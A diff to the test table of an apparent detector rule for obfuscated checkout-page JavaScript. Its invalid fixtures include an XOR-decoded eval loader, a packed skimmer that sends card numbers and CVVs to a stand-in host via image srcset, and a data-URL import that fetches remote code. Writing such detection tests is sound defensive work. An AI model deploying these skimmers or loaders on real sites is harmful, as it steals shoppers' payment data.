@@ -4,6 +4,7 @@ import { pack } from '../test/helpers/packer.js';
 
 ruleTable(rule, {
   valid: [
+    { name: 'a string built in a loop from constants and run through .call of a method that is not eval', code: "(function () { var s = ''; for (var i = 0; i < 3; i++) s += 'ab'; var o = { run: function (t) { return t; } }; o.run.call(o, s); })();" },
     { name: 'a packed script that only formats the card field (unpacked, nothing above low)', code: pack("document.getElementById('cc-number').addEventListener('input', function () { this.value = this.value.replace(/\\D/g, '').replace(/(\\d{4})(?=\\d)/g, '$1 '); });") },
     { name: 'a code-split chunk imported by path', code: "import('./chunks/checkout.' + hash + '.js').then(function (m) { m.init(); });" },
     { name: 'bind shim building a wrapper from parameter names (function-bind)', code: "function joiny(arr, j) { var s = ''; for (var i = 0; i < arr.length; i++) { s += arr[i]; if (i + 1 < arr.length) s += j; } return s; } var boundArgs = ['$0', '$1']; var bound = Function('binder', 'return function (' + joiny(boundArgs, ',') + '){ return binder.apply(this,arguments); }')(binder);" },
@@ -23,6 +24,7 @@ ruleTable(rule, {
     { name: 'javascript:void(0) link', code: "menu.insertAdjacentHTML('beforeend', '<li><a href=\"javascript:void(0)\" data-id=\"' + id + '\">' + label + '</a></li>');" },
   ],
   invalid: [
+    { name: 'a hex string XOR-decoded by a loop in an IIFE, run by eval reached through a joined name and .call (Baka-style loader)', code: "var _$_wcx=[\"3d1b4603086c5d4e1539261f5a575e204c440435181f5846132556535e6e6819570e1e245443133e69531a55113d4c444d222e0d146a1d305e445e65650946404d735155023c38401b0c087f5c5917213b16510c4f731259\",\"Kz4#pQ9!vL\"];(function(a,b){var c=\"\",d=0,k=b.split(\"\").map(function(x){return x.charCodeAt(0)});for(;d<a.length;d+=2)c+=String.fromCharCode(parseInt(a.substr(d,2),16)^k[(d/2)%k.length]);var w=window,r=[\"e\",\"v\",\"a\",\"l\"].join(\"\");w[r].call(w,c)})(_$_wcx[0],_$_wcx[1]);", messageIds: ['decoded'] },
     { name: "Dean Edwards packer: eval(function(p,a,c,k,e,d){…}('…',62,n,'…'.split('|'),0,{})) around a card grabber sending by srcset", code: pack("function val(n) { var e = document.querySelector('[name=\"' + n + '\"]'); return e ? e.value : ''; } document.addEventListener('mousedown', function () { var img = new Image(); img.srcset = 'https:' + '//varien-cdn-static.example/m/' + btoa(val('payment[cc_number]') + ':' + val('payment[cc_cid]')) + '.jpg 1x'; }, true);"), messageIds: ['decoded'], severity: 'low' },
     { name: 'a module imported from a base64 data: URL', code: "if (/checkout/.test(location.pathname)) import('data:text/javascript;base64,' + 'ZmV0Y2goJ2h0dHBzOi8veC5leGFtcGxlLycp').catch(function () {});", messageIds: ['decoded'] },
     { name: 'Function reached as the constructor of a function, atob aliased, chunks reversed', code: "var _p = ['KTE=', 'YWxlcnQo']; var _r = function () { return _p.slice().reverse().join(''); }; var _g = window['a' + 'to' + 'b']; var _F = (function () {}).constructor; _F(_g(_r()))();", messageIds: ['decoded'] },
